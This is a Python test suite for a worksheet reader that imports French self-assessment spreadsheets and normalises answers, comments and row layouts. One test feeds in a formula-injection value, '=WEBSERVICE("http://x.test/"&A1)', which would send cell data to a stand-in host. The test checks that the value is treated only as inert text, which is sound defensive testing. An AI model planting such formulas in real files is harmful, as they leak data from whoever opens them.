from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, time
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cap_tui.core.positions import Position, Stance
from cap_tui.core.text import clean
from cap_tui.exchange.worksheet import Answer, ChangedColumnsError, OtherDossierError, Worksheet
from cap_tui.exchange.worksheet_read import read_worksheet, worksheet_assessment
from cap_tui.i18n import activate, explain
from tests.building import UNKNOWN, level, not_applicable
from tests.unit.exchange.filling import ASSESSMENT, Filled, blank_cap, cap

RESAVED = Path(__file__).parents[2] / "corpus" / "worksheets" / "saved-by-libreoffice.xlsx"
VALUES, GOVERNANCE = "identity.values.shared-values", "identity.values.democratic-governance"
CHOICES = "À construire, Engagé, Maîtrisé, Exemplaire, Je ne sais pas, Non concerné"
NBSP = "\u00a0"


def _read(filled: Filled) -> Worksheet:
    return read_worksheet(filled.saved(), cap())


def _told(filled: Filled) -> list[tuple[str, str]]:
    return [(one.cell, one.sentence.replace(NBSP, " ")) for one in _read(filled).problems]


def test_an_empty_worksheet_says_whose_it_is_and_nothing_more() -> None:
    read = read_worksheet(blank_cap(), cap())
    assert (read.assessment, read.structure, read.year) == (ASSESSMENT, "Les Jardins de la Vallée", 2026)
    assert read.questionnaire_digest == cap().digest
    assert (read.mark, read.answers, read.problems) == ("", (), ())
    assert worksheet_assessment(blank_cap()) == ASSESSMENT


def test_a_worksheet_saved_by_libreoffice_loses_nothing() -> None:
    """Filled, then really opened and saved by LibreOffice 7.4; the file is kept as it came."""
    read = read_worksheet(RESAVED.read_bytes(), cap(), assessment=ASSESSMENT)
    away = "Pas de permanent·es ici"
    assert read.mark == "Colibri"
    assert read.answers == (
        Answer(VALUES, level("controlled"), "Le livret est remis à l’arrivée.\nDeux personnes l’ont relu."),
        Answer(GOVERNANCE, level("engaged"), ""),
        Answer("identity.values.board-renewal", level("exemplary"), ""),
        Answer("identity.values.staff-in-strategy", not_applicable(away), away),
        Answer("identity.values.participant-voice", UNKNOWN, "12/03/2026"),
        Answer("identity.values.limited-profit", None, "=1+1"),
    )
    assert [problem.cell for problem in read.problems] == ["E13"]


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("Maîtrisé", level("controlled")),
        ("  maitrise ", level("controlled")),
        ("MAÎTRISÉ.", level("controlled")),
        ("Mai\u0302trise\u0301", level("controlled")),
        (f"À{NBSP}construire", level("to-build")),
        ("a  Construire", level("to-build")),
        ("◑ Maîtrisé", level("controlled")),
        ("controlled", level("controlled")),
        ("1", level("to-build")),
        (2, level("engaged")),
        (4.0, level("exemplary")),
        ("niveau 3", level("controlled")),
        ("Je ne sais pas", UNKNOWN),
        ("ne sait pas", UNKNOWN),
        ("?", UNKNOWN),
        ("Don't know", UNKNOWN),
        ("Non concerné", not_applicable("Hors sujet")),
        ("non concernée", not_applicable("Hors sujet")),
        ("Non applicable", not_applicable("Hors sujet")),
        ("Not concerned", not_applicable("Hors sujet")),
    ],
)
def test_an_answer_typed_by_hand_counts_as_the_one_meant(typed: Any, expected: Position) -> None:
    (answer,) = _read(Filled().answer("1.1.1", typed, "Hors sujet")).answers
    assert answer == Answer(VALUES, expected, "Hors sujet")


@pytest.mark.parametrize(
    ("typed", "shown"),
    [("Bof", "Bof"), (0, "0"), (5, "5"), (2.5, "2,5"), (True, "VRAI"), (date(2026, 3, 4), "04/03/2026"),
     ("Maîtrisé ou Engagé", "Maîtrisé ou Engagé"), ("#N/A", "#N/A"), ("12 ans", "12 ans")],
)  # fmt: skip
def test_an_answer_not_understood_is_told_with_its_cell_and_the_comment_kept(typed: Any, shown: str) -> None:
    filled = Filled().answer("1.1.2", typed, "Voir avec Ève").answer("1.1.3", "Engagé")
    said = (
        f"« {shown} » n’est pas une réponse : elle n’a pas été prise en compte. Choisissez parmi : {CHOICES}."
    )
    assert _told(filled) == [("E9", said)]
    assert [(one.position, one.comment) for one in _read(filled).answers] == [
        (None, "Voir avec Ève"), (level("engaged"), ""),
    ]  # fmt: skip


def test_a_formula_is_never_an_answer_and_stays_a_text_in_a_comment() -> None:
    filled = Filled().answer("1.1.1", '="Maîtrisé"', '=WEBSERVICE("http://x.test/"&A1)')
    said = (
        f"Une formule n’est pas une réponse : elle n’a pas été prise en compte. Choisissez parmi : {CHOICES}."
    )
    assert _told(filled) == [("E8", said)]
    assert _read(filled).answers == (Answer(VALUES, None, '=WEBSERVICE("http://x.test/"&A1)'),)


@pytest.mark.parametrize(
    ("typed", "comment"),
    [
        (date(2026, 3, 12), "12/03/2026"),
        (datetime(2026, 3, 12, 14, 32, tzinfo=UTC).replace(tzinfo=None), f"12/03/2026 14{NBSP}h{NBSP}32"),
        (time(9, 5), f"09{NBSP}h{NBSP}05"),
        (17, "17"),
        (0.75, "0,75"),
        (False, "FAUX"),
        ("_x0041_ tel quel", "_x0041_ tel quel"),
        ("[/b] <i>&amp;", "[/b] <i>&amp;"),
        ("un\u200btrait\x85deux\u202e", "untrait\ndeux"),
        (f" {NBSP}\n entre blancs \n", "entre blancs"),
    ],
)
def test_a_comment_is_what_the_person_saw_in_the_cell(typed: Any, comment: str) -> None:
    if isinstance(typed, str):
        typed = typed.replace("_x0041_", "_x005F_x0041_")  # as spreadsheets write it
    (answer,) = _read(Filled().answer("1.1.1", None, typed)).answers
    assert answer == Answer(VALUES, None, comment)


def test_a_long_comment_is_kept_whole_and_a_cut_one_is_told() -> None:
    long = Filled().answer("1.1.1", 3, "é" * 20_000)
    assert _read(long).answers == (Answer(VALUES, level("controlled"), "é" * 20_000),)
    assert _told(long) == []
    longer = Filled().answer("1.1.1", 3, "é" * 20_001)
    assert _read(longer).answers == (Answer(VALUES, level("controlled"), "é" * 20_000),)
    said = "Ce commentaire est trop long : ses 20000 premiers caractères ont été gardés."
    assert _told(longer) == [("F8", said)]


def test_not_concerned_without_a_reason_does_not_leave_the_score_in_silence() -> None:
    filled = Filled().answer("1.1.1", "Non concerné", "  ")
    assert _read(filled).answers == (Answer(VALUES, Position(Stance.UNKNOWN), ""),)
    said = "« Non concerné » sans raison dans le commentaire : compté comme « Je ne sais pas »."
    assert _told(filled) == [("E8", said)]


def test_rows_deleted_sorted_or_copied_keep_each_answer_with_its_question() -> None:
    filled = Filled().answer("1.1.1", "Engagé", "un").answer("1.1.2", "Maîtrisé", "deux")
    rows = [[cell.value for cell in filled.sheet[row]] for row in (9, 8, 8)]
    filled.sheet.delete_rows(6, 10)
    for number, values in enumerate(rows, 6):
        for column, value in enumerate(values, 1):
            filled.sheet.cell(number, column).value = value
    read = _read(filled)
    assert read.answers == (
        Answer(VALUES, level("engaged"), "un"),
        Answer(GOVERNANCE, level("controlled"), "deux"),
    )
    assert read.problems == ()
    filled.sheet["E8"] = "Exemplaire"
    said = "Le critère 1.1.1 a déjà une réponse plus haut : cette ligne n’a pas été prise en compte."
    assert _told(filled) == [("E8", said)]
    assert _read(filled).answers == read.answers


def test_columns_and_rows_added_and_a_sheet_renamed_change_nothing() -> None:
    filled = Filled().answer("1.1.1", "Engagé", "un")
    filled.sheet.insert_cols(1)
    filled.sheet.insert_cols(5, 2)
    filled.sheet.insert_rows(4)
    filled.sheet.cell(9, 6).value = "à moi"
    filled.sheet.title = "Feuil1"
    filled.book.create_sheet("Brouillon", 0)["A1"] = "Maîtrisé"
    read = _read(filled)
    assert (read.answers, read.problems) == ((Answer(VALUES, level("engaged"), "un"),), ())


def test_cells_merged_and_dressed_are_read_all_the_same() -> None:
    filled = Filled().answer("1.1.1", "Engagé", "un")
    filled.sheet.merge_cells("E8:E9")
    assert _read(filled).answers == (Answer(VALUES, level("engaged"), "un"),)


def test_a_row_without_its_id_is_known_by_its_code_and_one_without_both_is_told() -> None:
    filled = Filled().answer("1.1.1", "Engagé").answer("1.1.2", "Maîtrisé").answer("1.1.3", "Exemplaire")
    filled.sheet["A8"] = None
    filled.sheet["A9"] = filled.sheet["B9"] = None
    filled.sheet["A10"], filled.sheet["B10"] = "identity.values.gone", "9.9.9"
    assert _read(filled).answers == (Answer(VALUES, level("engaged"), ""),)
    assert _told(filled) == [
        ("E9", "Cette ligne ne dit plus à quel critère elle répond : elle n’a pas été prise en compte."),
        ("E10", "Cette ligne n’est pas un critère de ce dossier : elle n’a pas été prise en compte."),
    ]


def test_columns_that_cannot_be_told_apart_are_not_guessed() -> None:
    filled = Filled().answer("1.1.1", "Engagé")
    filled.sheet["E1"] = None
    with pytest.raises(ChangedColumnsError):
        _read(filled)


def test_a_worksheet_of_another_dossier_says_which() -> None:
    with pytest.raises(OtherDossierError) as refused:
        read_worksheet(blank_cap(), cap(), assessment="00" * 32)
    assert "Les Jardins de la Vallée, 2026" in explain(refused.value)


@pytest.mark.parametrize(
    ("typed", "mark"), [("  Colibri\n", "Colibri"), (7, "7"), ("x" * 90, "x" * 40), (None, "")]
)
def test_a_nickname_is_kept_whatever_it_is(typed: Any, mark: str) -> None:
    filled = Filled()
    filled.sheet["E5"] = typed
    assert _read(filled).mark == mark


def test_the_same_answers_are_recognised_however_the_file_was_saved_and_any_change_is_seen() -> None:
    def digest(answer: Any = "Engagé", comment: str | None = "un", mark: str | None = "Colibri") -> str:
        filled = Filled().answer("1.1.1", answer, comment)
        filled.sheet["E5"] = mark
        return _read(filled).digest

    first = digest()
    assert digest(" engage ") == digest(2) == digest(comment=" un\n") == first
    assert len({first, digest("Maîtrisé"), digest(comment="deux"), digest(mark=None), digest(None)}) == 5
    written = b'["Colibri",[["identity.values.shared-values",{"level":"engaged","stance":"level"},"un"]]]'
    assert first == sha256(written).hexdigest()


def test_a_worksheet_made_in_another_language_is_read_the_same() -> None:
    filled = Filled().answer("1.1.1", "Non concerné", "Pas ici").answer("1.1.2", "Je ne sais pas")
    french = _read(filled)
    activate("en")
    try:
        assert _read(filled) == french
    finally:
        activate("fr")


def test_answers_to_an_earlier_questionnaire_come_with_its_digest() -> None:
    newer = replace(cap(), digest="77" * 32)
    read = read_worksheet(Filled().answer("1.1.1", "Engagé").saved(), newer)
    assert read.questionnaire_digest == cap().digest != newer.digest
    assert read.answers == (Answer(VALUES, level("engaged"), ""),)


TEXT = st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]), max_size=40)
CELL = st.tuples(
    st.sampled_from([None, "À construire", "Engagé", "Maîtrisé", "Exemplaire", "Je ne sais pas"]), TEXT
)
NAMES = {"À construire": "to-build", "Engagé": "engaged", "Maîtrisé": "controlled", "Exemplaire": "exemplary"}


@settings(max_examples=40)
@given(st.lists(CELL, min_size=8, max_size=8))
def test_whatever_people_answer_comes_back(cells: list[tuple[str | None, str]]) -> None:
    filled = Filled()
    expected = []
    for number, (answer, comment) in enumerate(cells, 1):
        row = filled.row(f"1.1.{number}")
        filled.sheet.cell(row, 5).value = answer
        filled.sheet.cell(row, 6).value = comment.replace("_x", "_ x")
        filled.sheet.cell(row, 6).data_type = "s"
        kept = clean(comment.replace("_x", "_ x")).strip()
        position = level(NAMES[answer]) if answer in NAMES else UNKNOWN if answer else None
        if answer or kept:
            expected.append((position, kept))
    read = _read(filled)
    assert [(one.position, one.comment) for one in read.answers] == expected
    assert read.problems == ()
